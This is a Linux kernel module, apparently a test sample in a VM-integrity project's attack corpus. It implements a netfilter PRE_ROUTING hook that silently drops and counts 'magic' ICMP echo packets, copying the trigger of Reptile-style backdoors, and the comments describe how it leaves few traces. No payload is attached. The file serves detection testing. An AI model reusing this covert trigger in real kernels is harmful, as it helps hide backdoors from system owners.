// SPDX-License-Identifier: GPL-2.0
/*
 * vmiaas_attack_nfhook: a magic-packet backdoor's trigger, for the
 * integrity tests. It registers a netfilter hook at PRE_ROUTING of the
 * initial network namespace (nf_register_net_hook(), first priority), as
 * the backdoors of Reptile's lineage do: every IPv4 packet passes through
 * it before routing. An ICMP echo request of @magic_len data bytes
 * whose last 8 are @magic_byte (what "ping -s 42 -p 76" sends) is
 * counted in @hits and dropped (the trigger leaves no trace in
 * counters further up, and gets no reply); every other packet is
 * accepted. Nothing in
 * kernel text or read-only data changes: the only trace is the hook entry
 * in init_net's writable nf.hooks_ipv4[NF_INET_PRE_ROUTING]. Unloading
 * unregisters.
 */
#define pr_fmt(fmt) KBUILD_MODNAME ": " fmt

#include <linux/init.h>
#include <linux/kernel.h>
#include <linux/module.h>
#include <linux/moduleparam.h>
#include <linux/netfilter.h>
#include <linux/netfilter_ipv4.h>
#include <linux/skbuff.h>
#include <net/net_namespace.h>

#include "vmiaas_attack_magic.h"

static ushort magic_len = 42;
module_param(magic_len, ushort, 0444);
MODULE_PARM_DESC(magic_len, "ICMP echo data length of the trigger");

static unsigned char magic_byte = 0x76;
module_param(magic_byte, byte, 0444);
MODULE_PARM_DESC(magic_byte, "the byte its last 8 data bytes hold");

static unsigned int hits;
module_param(hits, uint, 0444);
MODULE_PARM_DESC(hits, "trigger packets seen (and dropped)");

/* Whether @skb is the trigger: see the top. */
static bool vmiaas_attack_nfhook_is_magic(struct sk_buff *skb)
{
	return vmiaas_attack_magic(skb, magic_len, magic_byte);
}

static unsigned int vmiaas_attack_nfhook_fn(void *priv, struct sk_buff *skb,
					    const struct nf_hook_state *state)
{
	if (!vmiaas_attack_nfhook_is_magic(skb))
		return NF_ACCEPT;
	WRITE_ONCE(hits, READ_ONCE(hits) + 1);
	return NF_DROP;
}

static struct nf_hook_ops vmiaas_attack_nfhook_ops = {
	.hook = vmiaas_attack_nfhook_fn,
	.pf = NFPROTO_IPV4,
	.hooknum = NF_INET_PRE_ROUTING,
	.priority = NF_IP_PRI_FIRST,
};

static int __init vmiaas_attack_nfhook_init(void)
{
	int err = nf_register_net_hook(&init_net, &vmiaas_attack_nfhook_ops);

	if (!err)
		pr_info("PRE_ROUTING hook registered\n");
	return err;
}

static void __exit vmiaas_attack_nfhook_exit(void)
{
	nf_unregister_net_hook(&init_net, &vmiaas_attack_nfhook_ops);
	pr_info("hook unregistered after %u triggers\n", hits);
}

module_init(vmiaas_attack_nfhook_init);
module_exit(vmiaas_attack_nfhook_exit);

MODULE_DESCRIPTION("vmiaas attack corpus: netfilter ICMP magic-packet trigger");
MODULE_AUTHOR("vmiaas developers");
MODULE_LICENSE("GPL");
